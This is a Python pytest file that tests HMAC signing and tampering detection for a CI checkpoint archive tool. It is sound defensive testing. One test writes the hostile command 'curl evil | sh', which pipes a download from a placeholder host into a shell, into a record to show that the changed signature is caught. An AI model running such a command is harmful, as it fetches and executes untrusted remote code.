"""Archives that are signed."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import sys
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checkpoint_action.errors import BundleError, StoreError, UsageError
from checkpoint_action.model import Action, Reason
from checkpoint_action.runner import uploads
from checkpoint_action.runner.keys import job_slug
from checkpoint_action.runner.signing import SIGNATURE, check_signature, signed
from checkpoint_action.store.bundle import END_FRAME, header_frame, pack_layer, read_header
from checkpoint_action.store.codec import record_from_json
from checkpoint_action.store.frames import content, frames
from tests.runner.machines import KEYS, Machine, keep_each
from tests.runner.memory_store import MemoryStore

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from checkpoint_action.runner.keys import KeyScheme

RESTORED = (Action.RESTORE, Reason.RESTORED)
RUNS = (Action.RUN, Reason.NEVER_RAN)
SECRET = b"a secret of the workflow"
values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=10,
)
headers = st.dictionaries(st.text(), values, max_size=4)
posix = pytest.mark.skipif(sys.platform == "win32", reason="links and modes as POSIX has them")


@pytest.fixture(autouse=True)
def no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "_APART", 0.0)


@pytest.fixture
def store() -> MemoryStore:
    return MemoryStore()


@pytest.fixture
def machine(tmp_path: Path, store: MemoryStore) -> Callable[..., Machine]:
    def make(name: str, signing_key: bytes | None = SECRET, keys: KeyScheme = KEYS) -> Machine:
        return Machine(tmp_path / name, store, keys=keys, signing_key=signing_key)

    return make


@given(headers, st.text(max_size=20))
def test_what_was_signed_is_what_is_read(header: dict[str, Any], key: str) -> None:
    read = json.loads(json.dumps(signed(header, key, SECRET)))
    check_signature(read, key, SECRET)
    check_signature(read, key.lower(), SECRET)
    assert {name: value for name, value in read.items() if name not in {SIGNATURE, "format"}} == {
        name: value for name, value in json.loads(json.dumps(header)).items() if name not in {SIGNATURE, "format"}
    }


@given(headers, headers, st.sampled_from(["k", "k2"]), st.sampled_from([SECRET, b"another"]))
def test_a_signature_is_good_for_one_header_one_key_and_one_secret(
    header: dict[str, Any], other: dict[str, Any], key: str, secret: bytes
) -> None:
    one = signed(header, "k", SECRET)
    swapped = signed(other, "k", SECRET) | {SIGNATURE: one[SIGNATURE]}
    same = json.dumps(signed(other, "k", SECRET)) == json.dumps(one)
    if same and key == "k" and secret == SECRET:
        check_signature(swapped, key, secret)
    else:
        with pytest.raises(BundleError, match="is not signed with this key"):
            check_signature(swapped, key, secret)


@pytest.mark.parametrize("said", [None, 7, "", "é", ["x"], "0" * 64])
def test_whatever_stands_in_place_of_a_signature_is_none(said: object) -> None:
    header = signed({"job": "j"}, "k", SECRET) | {SIGNATURE: said}
    with pytest.raises(BundleError, match="is not signed with this key"):
        check_signature(header, "k", SECRET)


def test_the_signature_covers_the_header_as_it_is_stored(tmp_path: Path) -> None:
    """Anybody can check it with what the archive holds alone."""
    archive = tmp_path / "archive"
    archive.write_bytes(header_frame(signed({"job": "j", "é": [1]}, "the-key", SECRET)) + END_FRAME)
    with archive.open("rb") as file:
        stored = content(file, next(frames(file)), 1 << 20)[512:].rstrip(b"\0")
    text, _, rest = stored.rpartition(b',"signature":"')
    digest = hmac.new(SECRET, b"checkpoint-run archive 1\0the-key\0" + text + b"}", hashlib.sha256).hexdigest()
    assert rest == digest.encode() + b'"}'


def test_an_empty_key_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="the signing key is empty"):
        Machine(tmp_path / "one", MemoryStore(), signing_key=b"")


@posix
def test_with_the_key_signed_archives_are_used(machine: Callable[..., Machine]) -> None:
    keep_each(machine("one"), "a", "b")
    other = machine("other")
    assert other.resume(other.step("a"), other.step("b")) == [RESTORED, RESTORED]
    assert other.warnings == []


@posix
def test_without_a_key_they_are_too(machine: Callable[..., Machine]) -> None:
    keep_each(machine("one"), "a")
    other = machine("other", None)
    assert other.resume(other.step("a")) == [RESTORED]


@posix
@pytest.mark.parametrize("written_with", [None, b"another secret"])
def test_an_archive_without_a_valid_signature_is_a_miss_with_one_line(
    machine: Callable[..., Machine], store: MemoryStore, written_with: bytes | None
) -> None:
    keep_each(machine("one", written_with), "a")
    other = machine("other")
    assert other.resume(other.step("a")) == [RUNS]
    [key] = store.entries
    assert other.warnings == [f"CPR510: memory: {key} is not usable (it is not signed with this key); starting afresh"]
    assert "fetch" not in store.calls


@posix
def test_an_older_archive_with_a_signature_serves_where_the_newest_has_none(machine: Callable[..., Machine]) -> None:
    keep_each(machine("one"), "a")
    stranger = machine("stranger", None)
    keep_each(stranger, "b")
    other = machine("other")
    assert other.resume(other.step("a"), other.step("b")) == [RESTORED, RUNS]
    assert "using an older checkpoint" in other.warnings[0]


@posix
def test_an_archive_does_not_pass_for_a_newer_one_or_for_another_jobs(
    machine: Callable[..., Machine], store: MemoryStore
) -> None:
    keep_each(machine("one"), "a")
    [whole] = store.entries.values()
    another = replace(KEYS, job=job_slug("deploy", "deploy"))
    store.entries = {KEYS.new("a", 99): whole, another.new("a", 1): whole}
    for keys in (KEYS, another):
        other = machine(f"other-{keys.job}", keys=keys)
        assert other.resume(other.step("a")) == [RUNS]
        assert "is not signed with this key" in other.warnings[0]


@posix
def test_a_record_that_was_changed_breaks_the_signature(
    machine: Callable[..., Machine], store: MemoryStore, tmp_path: Path
) -> None:
    keep_each(machine("one"), "a")
    [(key, whole)] = store.entries.items()
    (tmp_path / "archive").write_bytes(whole)
    header = read_header(tmp_path / "archive")
    header["records"]["a"]["command"] = "curl evil | sh"
    with (tmp_path / "archive").open("rb") as file:
        first = next(frames(file))
    store.entries[key] = header_frame(header) + whole[first.size :]
    other = machine("other")
    assert other.resume(other.step("a")) == [RUNS]


@posix
def test_a_layer_exchanged_under_a_signed_header_is_refused_by_its_digests(
    machine: Callable[..., Machine], store: MemoryStore, tmp_path: Path
) -> None:
    one = machine("one")
    keep_each(one, "a")
    [(key, whole)] = store.entries.items()
    (tmp_path / "archive").write_bytes(whole)
    record = record_from_json(read_header(tmp_path / "archive")["records"]["a"])
    assert record.archive is not None
    [entry] = record.layer.entries
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / entry.path).write_bytes(b"!")  # as long as what it stands for
    os.utime(evil / entry.path, ns=(entry.mtime_ns, entry.mtime_ns))
    forged = replace(record.layer, entries=(replace(entry, sha256=hashlib.sha256(b"!").hexdigest()),))
    pack_layer(evil, record.archive.layer, forged, tmp_path / "layer")
    with (tmp_path / "archive").open("rb") as file:
        first = next(frames(file))
    store.entries[key] = whole[: first.size] + (tmp_path / "layer").read_bytes() + END_FRAME
    other = machine("other")
    records = other.checkpoints.learn(["a"])
    with pytest.raises(StoreError, match="has not the content that the manifest says"):
        other.checkpoints.restore(records["a"], lambda _path: ())
    assert not (other.root / entry.path).exists()
